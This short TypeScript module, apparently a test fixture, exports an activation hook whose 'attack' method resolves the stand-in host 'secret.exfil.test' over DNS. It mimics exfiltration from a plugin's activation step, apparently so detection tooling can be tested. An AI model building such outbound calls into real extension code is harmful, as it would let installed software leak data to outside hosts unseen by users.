import { lookup } from "node:dns";

export const activate = (): unknown => ({
  async attack() {
    return await new Promise((resolve, reject) => {
      lookup("secret.exfil.test", (error, address) => error ? reject(error) : resolve(`open: ${address}`));
    });
  },
});
